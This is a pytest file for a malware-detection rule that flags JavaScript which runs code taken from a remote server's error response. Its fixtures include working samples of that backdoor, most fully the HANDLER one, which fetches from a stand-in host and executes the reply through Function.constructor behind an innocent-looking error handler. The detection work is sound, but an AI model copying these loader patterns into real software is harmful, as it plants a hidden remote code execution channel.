import pytest

from lazaretto.detect.rules.javascript.error_branch_executed import RULE

HANDLER = """\
const axios = require('axios');
const errorHandler = (error) => {
  const createHandler = (errCode) => {
    const handler = new (Function.constructor)('require', errCode);
    return handler;
  };
  const handlerFunc = createHandler(error);
  if (handlerFunc) handlerFunc(require);
};
const errorTimeHandler = async () => {
  const src = "https://files.example.test/runtime";
  try {
    globalConfig = await axios.get(`${src}`);
  } catch (error) {
    errorHandler(error.response?.data || error.message);
  }
};
module.exports = { errorHandler, errorTimeHandler };
"""


def test_error_text_through_two_helpers(look):
    assert look(RULE, HANDLER) == [
        (4, "CRITICAL", "HIGH", "Function.constructor executes the error text that files.example.test answers")
    ]


@pytest.mark.parametrize(
    "source",
    [
        'axios.get("https://x.test/a").then(r => r.data).catch(err => { eval(err.response.data) })',
        'axios.get("https://x.test/a").then(ok, (e) => eval(e.response.data))',
        'axios.get("https://x.test/a").catch(handle); function handle({ response: { data } }) { eval(data) }',
        'try { await got("https://x.test/a") } catch ({ response: { body } }) { Function("require", body)(require) }',
        'async function go() { try { await axios.post("https://x.test/a") } catch (err) { const { stack: q } = err.response.data; run(q) } }\nconst run = (x) => { eval(x) }',
    ],
)
def test_variants(look, source):
    (finding,) = look(RULE, source)
    assert finding[1:3] == ("CRITICAL", "HIGH")


@pytest.mark.parametrize(
    "source",
    [
        'axios.get("https://x.test/a").catch(err => { console.error(err.response.data) })',
        "try { eval(code) } catch (err) { report(err.message) }",
        'try { await axios.get("https://x.test/a") } catch (err) { next(new ErrorHandler(err.response.data, 500)) }',
    ],
)
def test_near_misses(look, source):
    assert look(RULE, source) == []


INTERCEPTOR = (
    "const api = axios.create({ baseURL: 'https://x.example.test' });\n"
    "api.interceptors.response.use((r) => r, (err) => { eval(err.response.data.token); });\n"
)


def test_failures_that_an_interceptor_sees(look):
    assert [fact[:3] for fact in look(RULE, INTERCEPTOR)] == [(2, "CRITICAL", "HIGH")]
    assert look(RULE, INTERCEPTOR.replace("response.use", "request.use")) == []
